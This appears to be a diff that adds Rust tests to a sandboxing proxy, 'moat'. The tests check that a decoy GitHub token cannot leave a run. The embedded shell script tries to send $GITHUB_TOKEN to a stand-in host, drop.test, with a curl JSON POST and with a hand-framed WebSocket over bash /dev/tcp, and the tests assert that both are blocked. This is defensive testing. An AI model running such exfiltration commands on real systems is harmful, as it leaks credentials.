@@ -255,3 +255,122 @@ echo done
     let a = m.run_timeout("moat", &["audit", &id], None, 60);
     assert_eq!(a.code(), 0, "{}{}", a.stdout(), a.stderr());
 }
+
+/// A plain-HTTP stand-in that also takes a WebSocket upgrade (101, then records every
+/// byte of the frames it receives). The proxy does not check the accept key.
+fn ws_stand_in() -> (u16, Arc<Mutex<Vec<u8>>>) {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    let got = Arc::new(Mutex::new(Vec::new()));
+    let g2 = got.clone();
+    std::thread::spawn(move || {
+        for c in l.incoming() {
+            let Ok(mut s) = c else { continue };
+            let got = g2.clone();
+            std::thread::spawn(move || {
+                let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(15)));
+                let mut req = Vec::new();
+                let mut buf = [0u8; 16384];
+                let mut upgraded = false;
+                loop {
+                    let n = match s.read(&mut buf) {
+                        Ok(0) | Err(_) => break,
+                        Ok(n) => n,
+                    };
+                    got.lock().unwrap().extend_from_slice(&buf[..n]);
+                    if upgraded {
+                        continue;
+                    }
+                    req.extend_from_slice(&buf[..n]);
+                    let Some(end) = req.windows(4).position(|w| w == b"\r\n\r\n") else {
+                        continue;
+                    };
+                    let head = String::from_utf8_lossy(&req[..end]).to_ascii_lowercase();
+                    if head.contains("upgrade: websocket") {
+                        upgraded = true;
+                        let _ = s.write_all(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n");
+                        continue;
+                    }
+                    let cl = head
+                        .lines()
+                        .find_map(|l| l.strip_prefix("content-length:"))
+                        .and_then(|v| v.trim().parse::<usize>().ok())
+                        .unwrap_or(0);
+                    if req.len() >= end + 4 + cl {
+                        let _ = s.write_all(
+                            b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n",
+                        );
+                        break;
+                    }
+                }
+            });
+        }
+    });
+    (port, got)
+}
+
+/// `decoys: auto` (approved with `on_decoy: block`): the command puts `$GITHUB_TOKEN` (a
+/// decoy: the run has no GitHub grant) into a JSON body with curl, then into a WebSocket
+/// text frame it writes by hand through the run's proxy (bash's /dev/tcp, RFC 6455 framing).
+/// Both are refused; the stand-in got the clean WebSocket frame before, never the decoy;
+/// the audit log verifies and holds a `decoy_tripped` for the body and one for the frame.
+/// THREATS E3, D3.
+#[test]
+fn a_decoy_in_a_json_body_or_a_websocket_frame_never_leaves() {
+    if !docker_ready() {
+        return;
+    }
+    let (port, got) = ws_stand_in();
+    let mut m = Moat::new();
+    m.env.env(
+        "MOAT_PROXY_CONNECT_TO",
+        format!("drop.test:8080:127.0.0.1:{port}"),
+    );
+    m.write_config("decoys: auto\non_decoy: block\n");
+    m.trust(None);
+    let script = r#"
+curl -s -o /dev/null -w 'JSON=%{http_code}\n' -H 'content-type: application/json' \
+  --data "{\"note\":\"x\",\"token\":\"$GITHUB_TOKEN\"}" http://drop.test:8080/json
+cat > "$HOME/ws.sh" <<'EOS'
+p=${HTTP_PROXY#http://}; auth=${p%%@*}; hp=${p#*@}; hp=${hp%%/*}
+exec 3<>"/dev/tcp/${hp%:*}/${hp##*:}"
+printf 'GET http://drop.test:8080/ws HTTP/1.1\r\nHost: drop.test:8080\r\nProxy-Authorization: Basic %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n' "$(printf %s "$auth" | base64 -w0)" >&3
+IFS= read -r -t 10 status <&3
+echo "WS=${status%%$'\r'}"
+frame() { printf "\\x81\\x$(printf %02x $((128 + ${#1})))\\x00\\x00\\x00\\x00%s" "$1"; }
+frame "hello-before" >&3
+sleep 1
+frame "token=$GITHUB_TOKEN" >&3
+sleep 2
+exec 3>&-
+EOS
+bash "$HOME/ws.sh"
+echo "len=${#GITHUB_TOKEN}"
+"#;
+    let r = m.launch_sh(&[], script);
+    let id = m.newest_run();
+    let out = r.stdout();
+    assert_eq!(r.code(), 0, "{out}\n{}", r.stderr());
+    assert!(out.contains("JSON=403"), "{out}");
+    assert!(out.contains("WS=HTTP/1.1 101"), "{out}");
+    assert!(out.contains("len=40"), "{out}");
+    // The decoy's value is recorded nowhere on the host, so: no `ghp_` token at all.
+    let token = "ghp_";
+    let seen = got.lock().unwrap().clone();
+    assert!(has(&seen, "hello-before"), "the clean frame passed");
+    assert!(!has(&seen, token), "a decoy reached the stand-in");
+    assert!(
+        !has(&seen, "\"token\""),
+        "the JSON body reached the stand-in"
+    );
+    let ev = audit_events(&m, &id);
+    let wheres: Vec<String> = ev
+        .iter()
+        .filter(|e| e["type"] == "decoy_tripped")
+        .map(|e| e["where"].as_str().unwrap_or("").to_string())
+        .collect();
+    assert!(wheres.contains(&"body".to_string()), "{wheres:?}");
+    assert!(wheres.contains(&"websocket".to_string()), "{wheres:?}");
+    let a = m.run_timeout("moat", &["audit", &id], None, 60);
+    assert_eq!(a.code(), 0, "{}", a.stdout());
+}
